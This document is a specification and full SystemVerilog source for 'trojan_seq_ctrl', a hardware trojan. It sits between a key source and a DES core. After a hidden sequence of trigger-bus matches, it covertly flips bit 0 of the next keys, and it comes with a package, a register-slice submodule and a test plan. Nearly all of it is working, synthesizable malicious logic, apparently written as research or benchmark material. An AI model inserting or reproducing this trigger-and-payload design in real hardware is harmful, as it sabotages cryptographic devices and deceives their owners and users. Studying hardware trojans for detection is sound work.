trojan_seq_ctrl: RTL
====================

Name: trojan_seq_ctrl

Overview:
- Sequential trigger controller for the DES key-corruption payload.
- Watches a 32-bit trigger bus and counts consecutive matches of trigger[29:32] against a 4-bit condition (default decimal 15).
- After MATCH_COUNT consecutive matches, it arms and inverts key bit 0 on the next FIRE_KEYS keys passed to the DES core.
- Sits between the key source and the DES key input, behind a valid/ready handshake.

Parameters:
- COND, 4'b1111, trigger nibble (trigger[29:32], LSB at index 32) that counts as a match.
- MATCH_COUNT, 4, consecutive matching trigger beats required to arm; legal range 1..15.
- FIRE_KEYS, 1, number of keys corrupted per firing; legal range 1..255.
- STICKY, 0, if 1 the FIRE state never exits, except on reset.

Ports:
- clk  in  1  clock; all state changes on rising edge.
- rst  in  1  asynchronous active-high reset.
- trigger  in  [1:32]  trigger word; index 32 is the LSB.
- trig_valid  in  1  trigger beat qualifier; only qualified beats are evaluated.
- key  in  [55:0]  upstream 56-bit DES key.
- key_valid  in  1  upstream key valid.
- key_ready  out  1  upstream key ready.
- payload_key  out  [55:0]  key to the DES core, possibly corrupted.
- payload_valid  out  1  downstream valid.
- payload_ready  in  1  downstream ready.
- fire_active  out  1  high while state is FIRE.
- fire_total  out  [7:0]  count of corrupted keys; saturates at 255.

Behaviour:
- Reset (async, rst=1): state=IDLE, match_cnt=0, keys_left=0, payload_key=0, payload_valid=0, fire_total=0.
  - key_ready=1 during reset deassertion, since it is derived from payload_valid.
- match = trig_valid & (trigger[29:32]==COND).
- FSM states:
  - IDLE: match -> match_cnt=1. If MATCH_COUNT==1, go to FIRE with keys_left=FIRE_KEYS; else go to COUNT. Otherwise stay.
  - COUNT:
    - match with match_cnt+1==MATCH_COUNT -> FIRE, keys_left=FIRE_KEYS, match_cnt=0.
    - match otherwise -> match_cnt+1.
    - trig_valid & !match -> IDLE, match_cnt=0.
    - !trig_valid -> hold; gaps do not break a sequence.
  - FIRE: trigger ignored. Each accepted key (key_valid & key_ready) decrements keys_left.
    - Accept with keys_left==1 and STICKY==0 -> IDLE.
    - With STICKY==1, keys_left is not decremented.
- Key path: one-entry register slice.
  - key_ready = !payload_valid | payload_ready.
  - On accept: payload_key <= key ^ {55'b0, corrupt}, payload_valid <= 1, where corrupt = (state==FIRE) sampled in the accept cycle.
  - On payload_valid & payload_ready with no new accept: payload_valid <= 0.
  - Latency: one cycle. Full throughput when payload_ready is held high.
- Simultaneous events:
  - A trigger match that arms the controller in cycle N does not corrupt a key accepted in cycle N. The first corrupted key is the first accept in cycle N+1 or later.
- fire_total increments on every corrupted accept and saturates at 8'hFF.
- payload_key/payload_valid are stable while payload_valid & !payload_ready; no change under backpressure.
- Reset mid-FIRE: immediate return to IDLE. An in-flight payload is dropped (payload_valid=0).

Decomposition:
- Package trojan_pkg:
  - KEY_W=56, TRIG_W=32.
  - COND_DEFAULT=4'b1111.
  - State enum {IDLE, COUNT, FIRE}, 2 bits.
  - Function nibble_match(trigger, cond).
- Sub-module key_reg_slice, parameterised by width: one-entry valid/ready register with an XOR mask input.
- The FSM and counters stay in trojan_seq_ctrl.

Test Plan:
- Reset, then 3 keys 56'h0123456789ABCD / 56'hFFFFFFFFFFFFFF / 56'h0 with no triggers -> passed unchanged, 1-cycle latency; fire_total=0.
- Four trig_valid beats with trigger=32'h0000000F (gaps of idle cycles allowed), then key 56'h0123456789ABCD -> fire_active=1 after the 4th beat; payload_key=56'h0123456789ABCC; back to IDLE; fire_total=1.
- Triggers 0xF, 0xF, 0x7, 0xF, 0xF, 0xF -> no arm after 3 consecutive matches (sequence reset by 0x7); the arm occurs only after one more 0xF.
- Arm the controller, hold payload_ready=0 for 5 cycles with key_valid=1 -> key_ready=0 after the first accept; payload_key stable; exactly one key corrupted.
- Arming match and key accept in the same cycle -> that key unmodified; the next key has bit 0 inverted.
- FIRE_KEYS=3, rst pulsed after the 1st corrupted key -> state IDLE, payload_valid=0, fire_total=0; the following keys are uncorrupted.

Source files
------------

// File: rtl/trojan_pkg.sv
// trojan_pkg: shared widths, trigger condition, FSM state type and trigger matcher.
package trojan_pkg;
  localparam int KEY_W = 56;
  localparam int TRIG_W = 32;
  localparam logic [3:0] COND_DEFAULT = 4'b1111;
  typedef enum logic [1:0] {IDLE, COUNT, FIRE} state_t;
  // The trigger bus is ascending [1:TRIG_W], so the low nibble is [TRIG_W-3:TRIG_W].
  function automatic logic nibble_match(input logic [1:TRIG_W] trigger, input logic [3:0] cond);
    return trigger[TRIG_W-3:TRIG_W] == cond;
  endfunction
endpackage

// File: rtl/key_reg_slice.sv
// key_reg_slice: one-entry valid/ready register slice that XORs a mask into the data on accept.
module key_reg_slice #(
  parameter int W = 56
) (
  input  logic         clk,
  input  logic         rst,
  input  logic [W-1:0] i_data,
  input  logic [W-1:0] i_mask,
  input  logic         i_valid,
  output logic         o_ready,
  output logic [W-1:0] o_data,
  output logic         o_valid,
  input  logic         i_ready
);
  logic [W-1:0] r_data;
  logic         r_valid;
  logic         w_accept;
  assign o_ready  = !r_valid || i_ready;
  assign w_accept = i_valid && o_ready;
  assign o_data   = r_data;
  assign o_valid  = r_valid;
  always_ff @(posedge clk or posedge rst) begin
    if (rst) begin
      r_data  <= '0;
      r_valid <= 1'b0;
    end else if (w_accept) begin
      r_data  <= i_data ^ i_mask;
      r_valid <= 1'b1;
    end else if (i_ready) begin
      r_valid <= 1'b0;
    end
  end
endmodule

// File: rtl/trojan_seq_ctrl.sv
// trojan_seq_ctrl: counts consecutive trigger matches, then flips key bit 0 on the next FIRE_KEYS keys.
module trojan_seq_ctrl
  import trojan_pkg::*;
#(
  parameter logic [3:0] COND        = COND_DEFAULT,
  parameter int         MATCH_COUNT = 4,
  parameter int         FIRE_KEYS   = 1,
  parameter bit         STICKY      = 1'b0
) (
  input  logic              clk,
  input  logic              rst,
  input  logic [1:TRIG_W]   trigger,
  input  logic              trig_valid,
  input  logic [KEY_W-1:0]  key,
  input  logic              key_valid,
  output logic              key_ready,
  output logic [KEY_W-1:0]  payload_key,
  output logic              payload_valid,
  input  logic              payload_ready,
  output logic              fire_active,
  output logic [7:0]        fire_total
);
  state_t     r_state;
  logic [3:0] r_match_cnt;
  logic [7:0] r_keys_left;
  logic [7:0] r_fire_total;
  logic       w_match;
  logic       w_accept;
  logic       w_corrupt;
  assign w_match     = trig_valid && nibble_match(trigger, COND);
  assign w_accept    = key_valid && key_ready;
  // Corruption uses the registered state, so an arming match never taints a same-cycle key.
  assign w_corrupt   = r_state == FIRE;
  assign fire_active = w_corrupt;
  assign fire_total  = r_fire_total;
  key_reg_slice #(.W(KEY_W)) u_slice (
    .clk    (clk),
    .rst    (rst),
    .i_data (key),
    .i_mask ({{(KEY_W-1){1'b0}}, w_corrupt}),
    .i_valid(key_valid),
    .o_ready(key_ready),
    .o_data (payload_key),
    .o_valid(payload_valid),
    .i_ready(payload_ready)
  );
  always_ff @(posedge clk or posedge rst) begin
    if (rst) begin
      r_state      <= IDLE;
      r_match_cnt  <= 4'd0;
      r_keys_left  <= 8'd0;
      r_fire_total <= 8'd0;
    end else begin
      case (r_state)
        IDLE: if (w_match) begin
          r_state     <= (MATCH_COUNT == 1) ? FIRE : COUNT;
          r_match_cnt <= (MATCH_COUNT == 1) ? 4'd0 : 4'd1;
          r_keys_left <= 8'(FIRE_KEYS);
        end
        COUNT: if (trig_valid) begin
          if (!w_match) begin
            r_state     <= IDLE;
            r_match_cnt <= 4'd0;
          end else if (int'(r_match_cnt) + 1 == MATCH_COUNT) begin
            r_state     <= FIRE;
            r_match_cnt <= 4'd0;
            r_keys_left <= 8'(FIRE_KEYS);
          end else begin
            r_match_cnt <= r_match_cnt + 4'd1;
          end
        end
        FIRE: if (w_accept && !STICKY) begin
          r_keys_left <= r_keys_left - 8'd1;
          if (r_keys_left == 8'd1) r_state <= IDLE;
        end
        default: r_state <= IDLE;
      endcase
      if (w_accept && w_corrupt && r_fire_total != 8'hFF) r_fire_total <= r_fire_total + 8'd1;
    end
  end
endmodule
